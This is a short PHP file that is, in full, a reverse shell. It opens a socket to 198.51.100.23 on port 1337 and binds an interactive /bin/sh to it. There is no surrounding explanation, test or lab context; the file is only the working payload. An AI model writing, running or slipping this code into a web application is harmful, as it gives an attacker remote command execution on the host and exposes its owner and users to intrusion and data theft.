<?php
$sock=fsockopen("198.51.100.23",1337);
$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);
?>
